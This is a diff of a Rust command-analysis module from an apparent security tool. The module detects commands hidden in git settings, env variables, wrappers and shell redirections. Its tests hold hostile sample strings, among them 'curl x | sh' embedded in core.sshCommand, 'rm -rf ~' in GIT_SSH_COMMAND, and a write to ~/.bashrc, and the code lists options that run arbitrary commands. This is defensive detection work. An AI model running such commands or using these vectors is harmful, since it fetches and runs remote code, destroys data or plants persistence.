@@ -5,13 +5,18 @@
 //! `timeout`, `xargs`, `find -exec`, …) yield both themselves and the
 //! command they run, and options that make a program run arbitrary code
 //! (`git -c`, `tar --to-command`, `rsync -e`, `ssh -o ProxyCommand`,
-//! `python -c`, `awk 'BEGIN{system(…)}'`) are recorded as problems. Rules
-//! are then checked against every invocation; an invocation reached through
-//! a wrapper, or an analysis with problems, never gets an `allow` rule's
-//! pre-approval.
+//! `python -c`, `awk 'BEGIN{system(…)}'`) are recorded as problems and the
+//! commands they carry are judged too (see [`super::embedded`]). `git -c
+//! KEY=VALUE` also yields the invocation `git -c KEY=VALUE` so rules can
+//! judge the setting itself. Rules are then checked against every
+//! invocation; an invocation reached through a wrapper, or an analysis with
+//! problems, never gets an `allow` rule's pre-approval.
 
 use super::command_rules::basename;
-use super::shell::split_script;
+use super::embedded::{
+    COMMAND_VARIABLES, Embedded, embedded_code, git_config_command, git_ext_command,
+};
+use super::shell::{SimpleCommand, split_script};
 
 /// One program the exec would run.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -23,6 +28,10 @@ pub struct Invocation {
     /// Reached through a wrapper (`sudo X`, `find -exec X`): judged by its
     /// rules, never pre-approved.
     pub wrapped: bool,
+    /// Files its shell redirections write (`> f`), as written.
+    pub writes: Vec<String>,
+    /// Files its shell redirections read (`< f`), as written.
+    pub reads: Vec<String>,
 }
 
 /// Everything an exec leads to.
@@ -68,11 +77,11 @@ fn visit(argv: &[String], piped: bool, wrapped: bool, depth: usize, out: &mut An
 
     if SHELLS.contains(&prog) {
         if let Some(script) = shell_c_script(&strs[1..]) {
-            let split = split_script(script);
-            out.problems.extend(split.problems);
-            for cmd in split.commands {
-                visit(&cmd.argv, cmd.piped || piped, wrapped, depth + 1, out);
+            if piped {
+                // `… | sh -c X`: the shell itself is fed by another command.
+                push(out, argv.to_vec(), piped, wrapped);
             }
+            visit_script(script, piped, wrapped, depth, out);
             return;
         }
         // `bash script.sh` or `bash` reading stdin: judged as itself.
@@ -81,28 +90,28 @@ fn visit(argv: &[String], piped: bool, wrapped: bool, depth: usize, out: &mut An
     }
 
     if prog == "git" {
-        let (normalized, problems) = normalize_git(&strs);
-        out.problems.extend(problems);
-        push(out, normalized, piped, wrapped);
+        let git = normalize_git(&strs);
+        out.problems.extend(git.problems);
+        push(out, git.argv, piped, wrapped);
+        for setting in git.settings {
+            push(out, setting, false, wrapped);
+        }
+        visit_embedded(git.embedded, depth, out);
         return;
     }
 
     // Wrappers: record the wrapper, then what it runs.
-    if let Some(inner) = wrapped_command(prog, &strs, out) {
+    let mut extra = Vec::new();
+    if let Some(inner) = wrapped_command(prog, &strs, out, &mut extra) {
         push(out, argv.to_vec(), piped, wrapped);
+        visit_embedded(extra, depth, out);
         match inner {
             Inner::Argv(start) => {
                 if start < argv.len() {
                     visit(&argv[start..], piped, true, depth + 1, out);
                 }
             }
-            Inner::Script(script) => {
-                let split = split_script(&script);
-                out.problems.extend(split.problems);
-                for cmd in split.commands {
-                    visit(&cmd.argv, cmd.piped || piped, true, depth + 1, out);
-                }
-            }
+            Inner::Script(script) => visit_script(&script, piped, true, depth, out),
             Inner::Many(list) => {
                 for inner in list {
                     visit(&inner, piped, true, depth + 1, out);
@@ -113,8 +122,54 @@ fn visit(argv: &[String], piped: bool, wrapped: bool, depth: usize, out: &mut An
         return;
     }
 
-    code_execution_problems(prog, &strs, out);
     push(out, argv.to_vec(), piped, wrapped);
+    if let Some(found) = embedded_code(prog, &strs) {
+        out.problems.push(found.problem);
+        visit_embedded(found.commands, depth, out);
+    }
+}
+
+/// Split a shell script and visit each command, keeping its redirections
+/// on the first invocation it leads to.
+fn visit_script(script: &str, piped: bool, wrapped: bool, depth: usize, out: &mut Analysis) {
+    let split = split_script(script);
+    out.problems.extend(split.problems);
+    for cmd in split.commands {
+        visit_command(cmd, piped, wrapped, depth, out);
+    }
+}
+
+fn visit_command(cmd: SimpleCommand, piped: bool, wrapped: bool, depth: usize, out: &mut Analysis) {
+    let first = out.invocations.len();
+    visit(&cmd.argv, cmd.piped || piped, wrapped, depth + 1, out);
+    match out.invocations.get_mut(first) {
+        Some(inv) => {
+            inv.writes.extend(cmd.writes);
+            inv.reads.extend(cmd.reads);
+        }
+        None if !cmd.writes.is_empty() || !cmd.reads.is_empty() => {
+            out.invocations.push(Invocation {
+                argv: cmd.argv,
+                piped: cmd.piped || piped,
+                wrapped,
+                writes: cmd.writes,
+                reads: cmd.reads,
+            })
+        }
+        None => {}
+    }
+}
+
+/// Visit commands found inside another program's arguments: always as
+/// wrapped (never pre-approved).
+fn visit_embedded(found: Vec<Embedded>, depth: usize, out: &mut Analysis) {
+    for e in found {
+        match e {
+            Embedded::Script(s) => visit_script(&s, false, true, depth, out),
+            Embedded::PipedScript(s) => visit_script(&s, true, true, depth, out),
+            Embedded::Argv(argv) => visit(&argv, false, true, depth + 1, out),
+        }
+    }
 }
 
 fn push(out: &mut Analysis, argv: Vec<String>, piped: bool, wrapped: bool) {
@@ -122,6 +177,8 @@ fn push(out: &mut Analysis, argv: Vec<String>, piped: bool, wrapped: bool) {
         argv,
         piped,
         wrapped,
+        writes: Vec::new(),
+        reads: Vec::new(),
     });
 }
 
@@ -193,7 +250,14 @@ fn skip_options(args: &[&str], start: usize, with_value: &[&str]) -> usize {
 }
 
 /// If `prog` is a wrapper, where its inner command is.
-fn wrapped_command(prog: &str, a: &[&str], out: &mut Analysis) -> Option<Inner> {
+/// `extra` receives commands carried by the wrapper's own options (the
+/// value of `env GIT_SSH_COMMAND=…`).
+fn wrapped_command(
+    prog: &str,
+    a: &[&str],
+    out: &mut Analysis,
+    extra: &mut Vec<Embedded>,
+) -> Option<Inner> {
     let inner = match prog {
         "env" => {
             let mut i = 1;
@@ -215,11 +279,14 @@ fn wrapped_command(prog: &str, a: &[&str], out: &mut Analysis) -> Option<Inner> 
                     return Some(Inner::Script(s.to_owned()));
                 } else if w.starts_with('-') {
                     i += 1;
-                } else if let Some((name, _)) = w.split_once('=') {
+                } else if let Some((name, value)) = w.split_once('=') {
                     if !name.is_empty() {
                         out.problems.push(format!(
                             "`env {name}=…` changes the environment of the command it runs"
                         ));
+                    }
+                    if COMMAND_VARIABLES.contains(&name) && !value.trim().is_empty() {
+                        extra.push(Embedded::Script(value.to_owned()));
                     }
                     i += 1;
                 } else {
@@ -256,6 +323,7 @@ fn wrapped_command(prog: &str, a: &[&str], out: &mut Analysis) -> Option<Inner> 
             Inner::Argv(skip_options(a, 1, &[]))
         }
         "time" => Inner::Argv(skip_options(a, 1, &["-f", "-o", "--format", "--output"])),
+        "exec" => Inner::Argv(skip_options(a, 1, &["-a"])),
         "command" | "builtin" => {
             if a.iter().any(|w| matches!(*w, "-v" | "-V")) {
                 Inner::None
@@ -375,177 +443,130 @@ fn wrapped_command(prog: &str, a: &[&str], out: &mut Analysis) -> Option<Inner> 
     Some(inner)
 }
 
-/// `git` with its global options removed, so rules see `git push …` for
-/// `git -C dir --no-pager push …`. Options that let git run arbitrary
-/// programs are problems.
-fn normalize_git(a: &[&str]) -> (Vec<String>, Vec<String>) {
-    let mut problems = Vec::new();
-    let mut out = vec![a[0].to_owned()];
+/// A git invocation as the rules see it.
+struct Git {
+    /// Global options removed: `git -C dir --no-pager push …` → `git push …`.
+    argv: Vec<String>,
+    /// `git -c KEY=VALUE` for every setting given on the command line, so
+    /// rules can judge the setting (`git -c core.sshCommand=…`).
+    settings: Vec<Vec<String>>,
+    /// Commands those settings or options would run.
+    embedded: Vec<Embedded>,
+    problems: Vec<String>,
+}
+
+/// Normalise a git invocation. Options that let git run arbitrary programs
+/// are problems, and the programs they name are judged as well.
+fn normalize_git(a: &[&str]) -> Git {
+    let mut git = Git {
+        argv: vec![a[0].to_owned()],
+        settings: Vec::new(),
+        embedded: Vec::new(),
+        problems: Vec::new(),
+    };
+    let setting = |git: &mut Git, kv: &str| {
+        git.problems.push(format!(
+            "`git -c {}` can make git run arbitrary programs",
+            kv.split_once('=').map_or(kv, |(k, _)| k)
+        ));
+        let normalized = match kv.split_once('=') {
+            Some((k, v)) => format!("{}={v}", git_key_lowercase(k)),
+            None => git_key_lowercase(kv),
+        };
+        git.settings
+            .push(vec![a[0].to_owned(), "-c".to_owned(), normalized]);
+        git.embedded.extend(git_config_command(kv));
+    };
     let mut i = 1;
     while i < a.len() {
         let w = a[i];
         match w {
             "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--super-prefix" => i += 2,
-            "-c" | "--config-env" => {
-                problems.push(format!(
-                    "`git {w} {}` can make git run arbitrary programs",
-                    a.get(i + 1).unwrap_or(&"")
-                ));
+            "-c" => {
+                setting(&mut git, a.get(i + 1).unwrap_or(&""));
+                i += 2;
+            }
+            "--config-env" => {
+                setting(&mut git, a.get(i + 1).unwrap_or(&""));
                 i += 2;
             }
             _ if w.starts_with("--exec-path") => {
-                problems.push("`git --exec-path` runs programs from another directory".into());
+                git.problems
+                    .push("`git --exec-path` runs programs from another directory".into());
+                i += 1;
+            }
+            _ if w.starts_with("--config-env=") => {
+                setting(&mut git, &w["--config-env=".len()..]);
                 i += 1;
             }
             _ if w.starts_with("--git-dir=")
                 || w.starts_with("--work-tree=")
-                || w.starts_with("--namespace=")
-                || w.starts_with("--config-env=") =>
+                || w.starts_with("--namespace=") =>
             {
-                if w.starts_with("--config-env=") {
-                    problems.push("`git --config-env` can make git run arbitrary programs".into());
-                }
-                i += 1;
+                i += 1
             }
             _ if w.starts_with('-') => i += 1,
             _ => break,
         }
     }
-    for w in &a[i..] {
-        if w.starts_with("--upload-pack")
-            || w.starts_with("--receive-pack")
-            || *w == "-u"
-            || w.starts_with("--exec=")
-            || w.starts_with("ext::")
-            || w.starts_with("--config=")
+    let sub = a.get(i).copied().unwrap_or("");
+    let mut j = i;
+    while j < a.len() {
+        let w = a[j];
+        let program_option = ["--upload-pack", "--receive-pack", "--exec"]
+            .iter()
+            .find(|o| w == **o || w.starts_with(&format!("{o}=")));
+        if let Some(o) = program_option {
+            git.problems
+                .push(format!("`git {sub} {o}` runs the program it names"));
+            let value = match w.split_once('=') {
+                Some((_, v)) => Some(v),
+                None => a.get(j + 1).copied(),
+            };
+            git.embedded
+                .extend(value.map(|v| Embedded::Script(v.to_owned())));
+        } else if w == "-u" && sub == "clone" {
+            git.problems
+                .push("`git clone -u` runs the program it names".into());
+            git.embedded
+                .extend(a.get(j + 1).map(|v| Embedded::Script((*v).to_owned())));
+        } else if let Some(e) = git_ext_command(w) {
+            git.problems
+                .push("`ext::` remotes run a command as the transport".into());
+            git.embedded.push(e);
+        } else if (sub == "clone" || sub == "submodule")
+            && (w == "--config" || (w == "-c" && j > i))
         {
-            problems.push(format!("`git … {w}` can make git run arbitrary programs"));
+            if let Some(kv) = a.get(j + 1) {
+                setting(&mut git, kv);
+            }
+        } else if let Some(kv) = w.strip_prefix("--config=") {
+            setting(&mut git, kv);
         }
-        out.push((*w).to_owned());
+        if sub == "config" && j > i && !w.starts_with('-') && w.contains('.') {
+            // Section and variable names are case-insensitive in git; rules
+            // are written in lower case.
+            git.argv.push(git_key_lowercase(w));
+        } else {
+            git.argv.push(w.to_owned());
+        }
+        j += 1;
     }
-    (out, problems)
+    git
 }
 
-/// Options of ordinary programs that run arbitrary code.
-fn code_execution_problems(prog: &str, a: &[&str], out: &mut Analysis) {
-    let has = |flags: &[&str]| {
-        a[1..].iter().any(|w| {
-            flags
-                .iter()
-                .any(|f| w == f || w.starts_with(&format!("{f}=")))
-        })
-    };
-    let interpreter = prog.starts_with("python")
-        || prog.starts_with("pypy")
-        || matches!(prog, "node" | "nodejs" | "deno" | "bun")
-        || matches!(
-            prog,
-            "perl" | "ruby" | "php" | "lua" | "Rscript" | "tclsh" | "osascript"
-        );
-    if interpreter {
-        let inline = a[1..].iter().any(|w| {
-            matches!(*w, "-c" | "-e" | "-E" | "-r" | "-p" | "--eval" | "--print")
-                || (w.starts_with('-')
-                    && !w.starts_with("--")
-                    && (w.ends_with('c') || w.ends_with('e'))
-                    && w.len() <= 4)
-        });
-        if inline {
-            out.problems
-                .push(format!("`{prog}` runs inline code warden cannot inspect"));
-        }
-        return;
+/// `Core.HooksPath` → `core.hookspath`; the subsection of
+/// `http.<url>.extraHeader` keeps its case, as git does.
+fn git_key_lowercase(key: &str) -> String {
+    match (key.find('.'), key.rfind('.')) {
+        (Some(first), Some(last)) => format!(
+            "{}{}{}",
+            key[..first].to_ascii_lowercase(),
+            &key[first..last],
+            key[last..].to_ascii_lowercase()
+        ),
+        _ => key.to_ascii_lowercase(),
     }
-    let awk_runs = |p: &&&str| {
-        p.contains("system")
-            || p.contains("| getline")
-            || p.contains("|&")
-            || p.contains("print |")
-            || p.contains("printf |")
-    };
-    let ssh_local_command = a[1..].iter().any(|w| {
-        let l = w.to_ascii_lowercase();
-        l.contains("proxycommand") || l.contains("localcommand")
-    });
-    let problem = match prog {
-        "awk" | "gawk" | "mawk" | "nawk"
-            if a[1..]
-                .iter()
-                .find(|w| !w.starts_with('-'))
-                .is_some_and(|p| awk_runs(&p)) =>
-        {
-            format!("`{prog}` program runs shell commands")
-        }
-        "sed" | "gsed"
-            if a[1..]
-                .iter()
-                .any(|w| !w.starts_with('-') && sed_runs_commands(w)) =>
-        {
-            "`sed` script runs shell commands".to_owned()
-        }
-        "tar" | "bsdtar" | "gtar"
-            if has(&[
-                "--to-command",
-                "--checkpoint-action",
-                "--use-compress-program",
-                "-I",
-                "--info-script",
-                "--new-volume-script",
-                "-F",
-                "--rsh-command",
-            ]) =>
-        {
-            "`tar` option runs a command".to_owned()
-        }
-        "rsync" if has(&["-e", "--rsh", "--rsync-path"]) => {
-            "`rsync -e` runs a remote shell command".to_owned()
-        }
-        "ssh" | "scp" | "sftp" if ssh_local_command || has(&["-S", "-F"]) => {
-            format!("`{prog}` option runs a local command")
-        }
-        "make" | "gmake"
-            if a[1..]
-                .iter()
-                .any(|w| w.starts_with("SHELL=") || *w == "--eval") =>
-        {
-            "`make` with a replaced SHELL".to_owned()
-        }
-        _ => return,
-    };
-    out.problems.push(problem);
-}
-
-/// GNU sed's `e` command or `s///e` flag execute shell commands.
-fn sed_runs_commands(script: &str) -> bool {
-    script.split([';', '\n']).any(|cmd| {
-        let c = cmd.trim();
-        c == "e" || c.starts_with("e ") || (c.starts_with('s') && s_command_has_e_flag(c))
-    })
-}
-
-fn s_command_has_e_flag(cmd: &str) -> bool {
-    let mut chars = cmd.chars();
-    chars.next(); // 's'
-    let Some(delim) = chars.next() else {
-        return false;
-    };
-    let mut seen = 0;
-    let mut escaped = false;
-    let mut flags = String::new();
-    for c in chars {
-        if seen == 2 {
-            flags.push(c);
-            continue;
-        }
-        if escaped {
-            escaped = false;
-        } else if c == '\\' {
-            escaped = true;
-        } else if c == delim {
-            seen += 1;
-        }
-    }
-    flags.contains('e')
 }
 
 #[cfg(test)]
@@ -636,6 +657,48 @@ mod tests {
         ] {
             assert!(analyze(argv).fully_understood(), "{argv:?}");
         }
+    }
+
+    #[test]
+    fn git_settings_are_invocations_and_their_programs_are_judged() {
+        let a = analyze(&["git", "-c", "Core.SSHCommand=sh -c 'curl x | sh'", "fetch"]);
+        let p = programs(&a);
+        assert!(p.contains(&"git fetch".to_owned()), "{p:?}");
+        assert!(
+            p.contains(&"git -c core.sshcommand=sh -c 'curl x | sh'".to_owned()),
+            "{p:?}"
+        );
+        assert!(p.contains(&"sh".to_owned()), "{p:?}");
+        let sh = a.invocations.iter().find(|i| i.argv == ["sh"]).unwrap();
+        assert!(sh.piped && sh.wrapped);
+        let a = analyze(&["git", "-c", "alias.p=push --force", "p"]);
+        assert!(programs(&a).contains(&"git push --force".to_owned()));
+        let a = analyze(&["git", "config", "CORE.hooksPath", "/tmp/h"]);
+        assert_eq!(programs(&a), vec!["git config core.hookspath /tmp/h"]);
+    }
+
+    #[test]
+    fn env_command_variables_and_exec_are_followed() {
+        let a = analyze(&["env", "GIT_SSH_COMMAND=rm -rf ~", "git", "fetch"]);
+        assert!(programs(&a).contains(&"rm -rf ~".to_owned()));
+        let a = analyze(&["bash", "-c", "curl x | exec sh"]);
+        let sh = a.invocations.iter().find(|i| i.argv == ["sh"]).unwrap();
+        assert!(sh.piped && sh.wrapped);
+    }
+
+    #[test]
+    fn redirections_stay_with_their_command() {
+        let a = analyze(&["bash", "-c", "sudo tee -a x > ~/.bashrc; ls"]);
+        let sudo = a.invocations.iter().find(|i| i.argv[0] == "sudo").unwrap();
+        assert_eq!(sudo.writes, vec!["~/.bashrc"]);
+        assert!(
+            a.invocations
+                .iter()
+                .find(|i| i.argv[0] == "ls")
+                .unwrap()
+                .writes
+                .is_empty()
+        );
     }
 
     #[test]
